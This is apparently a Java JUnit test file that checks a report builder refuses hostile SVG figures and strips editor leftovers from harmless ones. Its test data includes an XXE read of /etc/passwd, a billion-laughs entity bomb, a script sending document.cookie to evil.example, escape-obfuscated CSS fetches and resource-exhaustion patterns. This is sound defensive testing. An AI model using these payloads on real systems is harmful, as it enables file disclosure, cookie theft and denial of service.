package org.imprint.chart;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.ZipFile;

import org.imprint.BuildRequest;
import org.imprint.Imprint;
import org.imprint.ReportException;
import org.imprint.Reports;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hostile SVG figures are refused with the article's line, the file and the reason, before any
 * output is written; nothing of them reaches an output, and nothing is fetched or expanded.
 */
class HostileSvgTest {

    private static final String OPEN = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" viewBox=\"0 0 100 50\">";

    /** A drawing of 100 by 100 units, 400 pixels square: its {@code <defs>} open, holding {@link #pattern}s. */
    private static final String DRAWING = "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" "
            + "width=\"400\" height=\"400\" viewBox=\"0 0 100 100\"><defs>";

    /** A pattern of {@code side} by {@code side} units (in the user space of what it fills), a quarter of each tile filled. */
    private static String pattern(String id, String side, String fill) {
        return "<pattern id=\"" + id + "\" patternUnits=\"userSpaceOnUse\" width=\"" + side + "\" height=\"" + side + "\">"
                + "<rect width=\"" + side + "\" height=\"" + side + "\" transform=\"scale(0.5)\" fill=\"" + fill + "\"/></pattern>";
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                Arguments.of("external entity (XXE)", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"
                        + OPEN + "<text y=\"20\">&xxe;</text></svg>", "declares a DTD or entities"),
                Arguments.of("billion laughs", "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">"
                        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\">"
                        + "<!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\">"
                        + "<!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\"><!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]>\n"
                        + OPEN + "<text y=\"20\">&h;</text></svg>", "declares a DTD or entities"),
                Arguments.of("script", OPEN + "<script>fetch('https://evil.example/'+document.cookie)</script></svg>", "<script> element"),
                Arguments.of("event handler", OPEN + "<rect width=\"10\" height=\"10\" onclick=\"alert(1)\"/></svg>", "event handler (onclick)"),
                Arguments.of("file: image", OPEN + "<image xlink:href=\"file:///etc/passwd\" width=\"10\" height=\"10\"/></svg>", "refers to \"file:///etc/passwd\""),
                Arguments.of("remote image", OPEN + "<image href=\"http://evil.example/track.png\" width=\"10\" height=\"10\"/></svg>", "refers to \"http://evil.example/track.png\""),
                Arguments.of("remote use", OPEN + "<use href=\"https://evil.example/sprite.svg#a\"/></svg>", "refers to \"https://evil.example/sprite.svg#a\""),
                Arguments.of("foreignObject", OPEN + "<foreignObject width=\"10\" height=\"10\"><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"http://evil.example/\"/></foreignObject></svg>", "<foreignObject> element"),
                Arguments.of("CSS url()", OPEN + "<rect width=\"10\" height=\"10\" style=\"fill: url(http://evil.example/p.svg#g)\"/></svg>", "refers to \"http://evil.example/p.svg#g\""),
                Arguments.of("CSS @import", OPEN + "<style>@import url(http://evil.example/x.css);</style></svg>", "@import"),
                Arguments.of("CSS url() hidden by a hex escape in <style>", OPEN + "<style>rect{fill:u\\72l(http://evil.example/x#g)}</style>"
                        + "<rect width=\"10\" height=\"10\"/></svg>", "<style> refers to \"http://evil.example/x#g\""),
                Arguments.of("CSS @import hidden by a hex escape", OPEN + "<style>@\\69mport \"http://evil.example/a.css\";</style>"
                        + "<rect width=\"10\" height=\"10\"/></svg>", "@import"),
                Arguments.of("CSS url() hidden by an escape in a style attribute", OPEN + "<rect width=\"10\" height=\"10\" "
                        + "style=\"fill: \\75rl(http://evil.example/attr#g)\"/></svg>", "refers to \"http://evil.example/attr#g\""),
                Arguments.of("CSS url() hidden by a plain escape in a presentation attribute", OPEN + "<rect width=\"10\" height=\"10\" "
                        + "fill=\"\\u\\r\\l(http://evil.example/p#g)\"/></svg>", "the fill attribute of <rect> refers to \"http://evil.example/p#g\""),
                Arguments.of("CSS url() split by a comment", OPEN + "<style>rect{fill:ur/**/l(http://evil.example/c#g)}</style>"
                        + "<rect width=\"10\" height=\"10\"/></svg>", "refers to \"http://evil.example/c#g\""),
                Arguments.of("CSS url() split over text and CDATA", OPEN + "<style>rect{fill:u<![CDATA[rl(http://evil.example/d#g)}]]></style>"
                        + "<rect width=\"10\" height=\"10\"/></svg>", "refers to \"http://evil.example/d#g\""),
                Arguments.of("CSS url() with a parenthesis in its quotes", OPEN + "<rect width=\"10\" height=\"10\" "
                        + "style=\"fill:url('http://evil.example/a)b')\"/></svg>", "refers to \"http://evil.example/a)b\""),
                Arguments.of("CSS image-set()", OPEN + "<rect width=\"10\" height=\"10\" style=\"fill:image-set('http://evil.example/i.png' 1x)\"/></svg>",
                        "uses image-set(), which can fetch"),
                Arguments.of("CSS src()", OPEN + "<style>rect{fill:src(\"http://evil.example/s.svg\")}</style><rect width=\"10\" height=\"10\"/></svg>",
                        "uses src(), which can fetch"),
                Arguments.of("pattern of billions of tiles", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"500\" height=\"500\"><defs>"
                        + "<pattern id=\"p\" width=\"0.0001\" height=\"0.0001\" patternUnits=\"userSpaceOnUse\"><circle r=\"0.00005\" fill=\"red\"/>"
                        + "</pattern></defs><rect width=\"500\" height=\"500\" fill=\"url(#p)\"/></svg>",
                        "its <pattern id=\"p\"> is drawn as about 25,000,0"),
                Arguments.of("pattern in parts of its shape, shrunk by its transform", OPEN + "<defs><pattern id=\"p\" width=\"0.1\" height=\"0.1\" "
                        + "patternTransform=\"scale(0.001)\"><rect width=\"1\" height=\"1\"/></pattern></defs>"
                        + "<rect width=\"50\" height=\"50\" fill=\"url(#p)\"/></svg>", "over the limit of 100,000 tiles"),
                // the hostile tester's pat-transform2: the shape's own size is huge, its transform shrinks it and the tile with it
                Arguments.of("pattern on a huge shape scaled down", DRAWING + pattern("p", "10", "#06c") + "</defs><rect width=\"1000000\" height=\"1000000\" "
                        + "transform=\"scale(0.0001)\" fill=\"url(#p)\"/></svg>", "its <pattern id=\"p\"> is drawn as about 10,000,000,000 tiles"),
                // bounding-box content on a bounding-box tile is rewritten with a viewBox (SvgPatternsTest); on a tile in user units
                // its scale differs per shape, and the PDF's drawer shifts it out of the tile
                Arguments.of("pattern content in bounding-box units on a tile in user units", DRAWING
                        + "<pattern id=\"b\" patternUnits=\"userSpaceOnUse\" width=\"10\" height=\"10\" patternContentUnits=\"objectBoundingBox\">"
                        + "<rect width=\"0.05\" height=\"0.05\" fill=\"blue\"/></pattern></defs><rect x=\"20\" width=\"80\" height=\"100\" "
                        + "fill=\"url(#b)\"/></svg>", "its <pattern id=\"b\"> has a tile of fixed size (patternUnits=\"userSpaceOnUse\")"
                        + " whose content is scaled by each filled shape's bounding box (patternContentUnits=\"objectBoundingBox\"), which the PDF's"
                        + " SVG drawer shifts out of the tile (blank or cut); give the tile in bounding-box units too"),
                Arguments.of("pattern in a nested viewBox", DRAWING + pattern("p", "10", "#06c") + "</defs><svg width=\"100\" height=\"100\" viewBox=\"0 0 100000 100000\">"
                        + "<rect width=\"100000\" height=\"100000\" fill=\"url(#p)\"/></svg></svg>", "drawn as about 100,000,000 tiles"),
                Arguments.of("pattern shared by many shapes each under the limit", DRAWING + pattern("p", "0.4", "#06c")
                        + "</defs>" + "<rect width=\"100\" height=\"100\" fill=\"url(#p)\"/>".repeat(20) + "</svg>",
                        "drawn as about 1,250,000 tiles (it fills or outlines 20 shapes)"),
                Arguments.of("pattern as a stroke", DRAWING + pattern("p", "0.1", "#06c") + "</defs><line x1=\"0\" y1=\"50\" x2=\"100\" y2=\"50\" "
                        + "stroke=\"url(#p)\" stroke-width=\"100\"/></svg>", "drawn as about 1,000,000 tiles"),
                Arguments.of("pattern in a marker at every vertex", DRAWING + pattern("p", "0.1", "#06c") + "<marker id=\"m\" markerWidth=\"40\" "
                        + "markerHeight=\"40\" markerUnits=\"userSpaceOnUse\"><rect width=\"30\" height=\"30\" fill=\"url(#p)\"/></marker></defs>"
                        + "<polyline fill=\"none\" stroke=\"black\" marker-mid=\"url(#m)\" points=\"0,0 10,10 20,0 30,10 40,0 50,10 60,0 70,10 "
                        + "80,0 90,10 100,0 100,20 90,30 80,20 70,30 60,20\"/></svg>", "drawn as about 1,260,000 tiles"),
                Arguments.of("pattern in a symbol used many times", DRAWING + pattern("p", "0.1", "#06c") + "<symbol id=\"s\" viewBox=\"0 0 10 10\">"
                        + "<rect width=\"10\" height=\"10\" fill=\"url(#p)\"/></symbol></defs>"
                        + "<use xlink:href=\"#s\" width=\"10\" height=\"10\"/>".repeat(20) + "</svg>",
                        "drawn as about 200,000 tiles (it fills or outlines 20 shapes)"),
                Arguments.of("pattern filling text", DRAWING + pattern("p", "0.1", "#06c") + "</defs><text x=\"0\" y=\"40\" font-size=\"40\" "
                        + "fill=\"url(#p)\">WWWW</text></svg>", "over the limit of 100,000 tiles"),
                Arguments.of("pattern drawn in another pattern's tiles", DRAWING + pattern("inner", "0.2", "#06c")
                        + "<pattern id=\"p\" patternUnits=\"userSpaceOnUse\" width=\"5\" height=\"5\"><rect width=\"5\" height=\"5\" "
                        + "fill=\"url(#inner)\"/></pattern></defs><rect width=\"100\" height=\"100\" fill=\"url(#p)\"/></svg>",
                        "its <pattern id=\"inner\"> is drawn as about 250,000 tiles; all its patterns together draw about 250,400"),
                Arguments.of("pattern taking a tiny tile from another (href)", DRAWING + pattern("base", "0.01", "#06c")
                        + "<pattern id=\"p\" xlink:href=\"#base\"/></defs><rect width=\"100\" height=\"100\" fill=\"url(#p)\"/></svg>",
                        "its <pattern id=\"p\"> is drawn as about 100,"),
                Arguments.of("pattern filling 300 small shapes", DRAWING + pattern("p", "2", "#06c") + "</defs>"
                        + "<rect width=\"1\" height=\"1\" fill=\"url(#p)\"/>".repeat(300) + "</svg>",
                        "it fills or outlines 300 shapes with patterns (markers and copies each counted), over the limit of 250"),
                Arguments.of("patterned marker at 400 vertices", DRAWING + pattern("p", "2", "#06c")
                        + "<marker id=\"m\" markerWidth=\"4\" markerHeight=\"4\"><circle cx=\"2\" cy=\"2\" r=\"2\" fill=\"url(#p)\"/></marker>"
                        + "</defs><polyline fill=\"none\" stroke=\"black\" marker-mid=\"url(#m)\" points=\""
                        + java.util.stream.IntStream.range(0, 402).mapToObj(i -> (i % 100) + "," + (i / 100 * 10)).collect(java.util.stream.Collectors.joining(" "))
                        + "\"/></svg>", "it fills or outlines 400 shapes with patterns"),
                Arguments.of("a blur on each of 30 shapes", DRAWING + "<filter id=\"b\"><feGaussianBlur stdDeviation=\"1\"/></filter></defs>"
                        + "<circle cx=\"50\" cy=\"50\" r=\"3\" filter=\"url(#b)\"/>".repeat(30) + "</svg>",
                        "it has 30 filters or masks, over the limit of 20 for a figure"),
                // faded groups are drawn as images too: 100 over the frame took poppler 7.5 s to show, and passed before
                Arguments.of("25 faded groups of overlapping shapes", DRAWING + "</defs>" + ("<g opacity=\"0.5\"><rect width=\"60\" height=\"60\"/>"
                        + "<circle cx=\"50\" cy=\"50\" r=\"30\" fill=\"red\"/></g>").repeat(25) + "</svg>",
                        "it has 25 faded groups or shapes (an opacity below 1 that cannot be given to fills and strokes: on a group of"
                        + " overlapping shapes, or a shape with markers), over the limit of 20 filters, masks and faded groups for a figure"),
                Arguments.of("groups faded by a style-sheet rule", DRAWING + "</defs><style>g { opacity: 0.4 }</style>"
                        + "<g><rect width=\"60\" height=\"60\"/><circle cx=\"50\" cy=\"50\" r=\"30\" fill=\"red\"/></g>".repeat(21) + "</svg>",
                        "it has 21 faded groups or shapes"),
                Arguments.of("blurs and faded groups together", DRAWING + "<filter id=\"b\"><feGaussianBlur stdDeviation=\"1\"/></filter></defs>"
                        + "<circle cx=\"50\" cy=\"50\" r=\"3\" filter=\"url(#b)\"/>".repeat(15) + ("<g style=\"opacity:50%\"><rect width=\"60\" "
                        + "height=\"60\"/><circle cx=\"50\" cy=\"50\" r=\"30\"/></g>").repeat(10) + "</svg>",
                        "it has 10 faded groups or shapes (an opacity below 1 that cannot be given to fills and strokes: on a group of"
                        + " overlapping shapes, or a shape with markers) and 15 filters or masks, 25 in all, over the limit of 20"),
                Arguments.of("pattern drawn with itself", DRAWING + pattern("p", "10", "url(#p)")
                        + "</defs><rect width=\"100\" height=\"100\" fill=\"url(#p)\"/></svg>", "its patterns are drawn with themselves"),
                Arguments.of("size too large", "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"100000000\" height=\"100000000\">"
                        + "<rect width=\"100\" height=\"100\"/></svg>", "its width=\"100000000\" is too large: the limit is 100000 CSS pixels"),
                Arguments.of("deep nesting", OPEN + "<g>".repeat(200) + "</g>".repeat(200) + "</svg>", "nested more than 64 levels"),
                Arguments.of("use amplification", OPEN + useLevels(10, 10) + "</svg>", "more than 20000 elements once its <use> copies are counted"),
                Arguments.of("use cycle", OPEN + "<g id=\"a\"><use xlink:href=\"#b\"/></g><g id=\"b\"><use xlink:href=\"#a\"/></g>"
                        + "<text y=\"20\">x</text></svg>", "refer to each other in a cycle"),
                Arguments.of("use of its own group", OPEN + "<g id=\"a\"><rect width=\"1\" height=\"1\"/><use href=\"#a\"/></g></svg>",
                        "refer to each other in a cycle"),
                Arguments.of("use of a missing part", OPEN + "<rect width=\"9\" height=\"9\"/><use href=\"#nothing\"/></svg>",
                        "refers to \"#nothing\" (xlink:href), which is not in the file"),
                Arguments.of("fill of a missing part", OPEN + "<rect width=\"9\" height=\"9\" fill=\"url(#nothing)\"/></svg>",
                        "refers to \"#nothing\" (fill), which is not in the file"),
                Arguments.of("not SVG", "<html xmlns=\"http://www.w3.org/1999/xhtml\"><body/></html>", "not an SVG <svg> element"),
                Arguments.of("damaged embedded PNG", OPEN + "<image href=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1\" height=\"1\"/></svg>",
                        "its <image> element's embedded PNG image is damaged"),
                Arguments.of("embedded PNG of 400 megapixels", OPEN + "<image href=\"data:image/png;base64," + hugePng()
                        + "\" width=\"1\" height=\"1\"/></svg>", "is 20000 by 20000 pixels, over the limit of 25 megapixels"),
                Arguments.of("embedded JPEG that is not one", OPEN + "<image href=\"data:image/jpeg;base64,AAAAAAAA\" width=\"1\" height=\"1\"/></svg>",
                        "its <image> element's embedded JPEG image"),
                Arguments.of("embedded SVG", OPEN + "<image href=\"data:image/svg+xml;base64,PHN2Zy8+\" width=\"1\" height=\"1\"/></svg>",
                        "refers to \"data:image/svg+xml"));
    }

    /** A PNG header (signature and IHDR, with its CRC) for 20,000 by 20,000 pixels, and no pixels. */
    private static String hugePng() {
        java.nio.ByteBuffer ihdr = java.nio.ByteBuffer.allocate(17);
        ihdr.put("IHDR".getBytes(StandardCharsets.US_ASCII)).putInt(20_000).putInt(20_000).put(new byte[] {8, 2, 0, 0, 0});
        java.util.zip.CRC32 crc = new java.util.zip.CRC32();
        crc.update(ihdr.array());
        java.nio.ByteBuffer png = java.nio.ByteBuffer.allocate(8 + 4 + 17 + 4);
        png.put(new byte[] {(byte) 0x89, 'P', 'N', 'G', 13, 10, 26, 10}).putInt(13).put(ihdr.array()).putInt((int) crc.getValue());
        return java.util.Base64.getEncoder().encodeToString(png.array());
    }

    /** {@code levels} groups, each of {@code fan} uses of the one before: fan^levels elements drawn. */
    private static String useLevels(int levels, int fan) {
        StringBuilder svg = new StringBuilder("<defs><g id=\"g0\"><rect width=\"1\" height=\"1\"/></g>");
        for (int level = 1; level < levels; level++) {
            svg.append("<g id=\"g").append(level).append("\">");
            for (int i = 0; i < fan; i++) {
                svg.append("<use xlink:href=\"#g").append(level - 1).append("\" x=\"").append(i).append("\"/>");
            }
            svg.append("</g>");
        }
        return svg.append("</defs><use xlink:href=\"#g").append(levels - 1).append("\"/>").toString();
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void isRefusedWithItsLineAndNothingIsWritten(String name, String svg, String why, @TempDir Path dir) throws Exception {
        Path report = write(dir, svg);
        Path out = dir.resolve("out");
        ReportException e = assertThrows(ReportException.class,
                () -> new Imprint(Reports.HOME).build(BuildRequest.of(report).out(out).build()));
        String message = e.getMessage();
        assertTrue(message.contains("article.md:12: SVG image \"figures/drawing.svg\" is refused: "), message);
        assertTrue(message.contains(why), message);
        assertFalse(message.contains("root:") || message.contains("lol"), "nothing of the file in the message: " + message);
        assertTrue(message.lines().noneMatch(l -> l.strip().startsWith("at ")), "a stack trace: " + message);
        try (Stream<Path> left = Files.exists(out) ? Files.list(out) : Stream.empty()) {
            assertEquals(List.of(), left.filter(p -> !p.getFileName().toString().startsWith(".")).toList(), "outputs left behind");
        }
    }

    @Test
    void editorsLeftoversAreCleanedAndNothingLeaks(@TempDir Path dir) throws Exception {
        String svg = "<?xml version=\"1.0\"?>\n<!-- secret: internal draft -->\n"
                + "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:sodipodi=\"http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd\" "
                + "xmlns:xlink=\"http://www.w3.org/1999/xlink\" xml:base=\"http://127.0.0.1:18123/\" "
                + "width=\"200\" height=\"100\" sodipodi:docname=\"secret-name.svg\"><sodipodi:namedview pagecolor=\"#ffffff\"/>"
                + "<metadata>author: secret person</metadata><?php echo 1; ?><style>circle{fill:\\23 7B1E2B}</style>"
                + "<g xml:base=\"http://127.0.0.1:18123/base/\"><use xlink:href=\"#r\"/></g>"
                + "<rect id=\"r\"/><rect id=\"image (2)\" data-name=\"src (copy)\" width=\"100\" height=\"50\" fill=\"#7B1E2B\"/><circle r=\"5\"/>"
                + "<image href=\"data:image/png;base64," + RealWorldSvgTest.PNG + "\" width=\"1\" height=\"1\"/></svg>";
        Path report = write(dir, svg);
        Path out = dir.resolve("out");
        List<Path> built = new Imprint(Reports.HOME).build(BuildRequest.of(report).out(out).formats("epub").build());
        try (ZipFile zip = new ZipFile(built.get(0).toFile())) {
            String kept = new String(zip.getInputStream(zip.getEntry("OEBPS/figures/drawing.svg")).readAllBytes(), StandardCharsets.UTF_8);
            assertTrue(kept.contains("<rect"), kept);
            // names that look like CSS functions, and an escape that decodes to a colour, are harmless and kept
            assertTrue(kept.contains("id=\"image (2)\"") && kept.contains("style=\"fill:\\23 7B1E2B\""), kept);
            assertFalse(kept.contains("secret") || kept.contains("sodipodi") || kept.contains("php"), kept);
            // a base for links has no use in a self-contained figure, and EPUBCheck refuses a remote one (RSC-006)
            assertFalse(kept.contains("xml:base") || kept.contains("18123"), kept);
        }
    }

    /** Names that look like CSS functions where CSS does not read functions: a comment, a string, a font name. */
    static Stream<Arguments> harmless() {
        return Stream.of(
                Arguments.of("a comment", "<style>/* Exported from Image (2).ai; paint (old) */ .a{fill:#c00}</style><rect class=\"a\" width=\"50\" height=\"50\"/>",
                        "style=\"fill:#c00\""),
                Arguments.of("quoted font names in a style", "<text x=\"5\" y=\"50\" style=\"font-family:'Src (Pro)', 'Back\\slash Sans', sans-serif;"
                        + "font-size:20px;fill:#000000\">Hello</text>", "'Src (Pro)'"),
                Arguments.of("an unquoted font name", "<text x=\"5\" y=\"80\" font-family=\"Image (Display)\">World</text>", "Image (Display)"),
                Arguments.of("a string and a font-family rule", "<style>text{font-family:Element (Serif)} .q::after{content:\"src(x)\"}</style>"
                        + "<text y=\"20\">Hi</text>", "Element (Serif)"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("harmless")
    void namesOutsideCssCodeAreAccepted(String name, String body, String kept, @TempDir Path dir) throws Exception {
        Path report = write(dir, OPEN + body + "</svg>");
        List<Path> built = new Imprint(Reports.HOME).build(BuildRequest.of(report).out(dir.resolve("out")).formats("epub").build());
        try (ZipFile zip = new ZipFile(built.get(0).toFile())) {
            String svg = new String(zip.getInputStream(zip.getEntry("OEBPS/figures/drawing.svg")).readAllBytes(), StandardCharsets.UTF_8);
            assertTrue(svg.contains(kept), svg);
        }
    }

    private static Path write(Path dir, String svg) throws Exception {
        Path report = dir.resolve("hostile-svg");
        Files.createDirectories(report.resolve("figures"));
        Files.writeString(report.resolve("figures/drawing.svg"), svg);
        Files.writeString(report.resolve("article.md"), "---\ntitle: A Hostile Drawing\ndate: 2026-03-01\nauthors:\n"
                + "  - name: Jane Doe\n---\n\nA paragraph before the figure.\n\nAnother paragraph.\n\n"
                + "![A drawing.](figures/drawing.svg)\n");
        return report;
    }
}
